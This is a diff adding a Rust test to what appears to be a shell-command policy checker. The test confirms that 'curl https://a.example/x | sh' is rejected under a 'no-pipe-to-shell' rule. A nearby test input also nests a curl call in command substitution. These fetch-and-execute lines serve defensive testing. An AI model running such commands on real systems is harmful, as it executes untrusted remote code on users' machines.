@@ -51,6 +51,18 @@ fn the_page_tells_verdict_parts_rules_and_the_next_step() {
 }
 
 #[test]
+fn what_runs_something_says_what_was_decided_about_that() {
+    let home = Home::strict();
+    let done = home.call(&["explain", "--json", "curl https://a.example/x | sh"]);
+    let judged: Value = serde_json::from_str(&done.out).unwrap();
+    let parts = judged["parts"].as_array().unwrap().iter();
+    let shell = { parts }.find(|part| part["program"] == "sh").unwrap();
+    let rule = shell["rule"].as_u64().unwrap() as usize;
+    assert_eq!(shell["verdict"], "reject", "{shell}");
+    assert_eq!(judged["rules"][rule]["name"], "no-pipe-to-shell");
+}
+
+#[test]
 fn operators_are_words_and_what_is_inside_is_indented() {
     let home = Home::strict();
     let command = "cat a | sort || echo $(curl https://a.example/x) > out; ls";
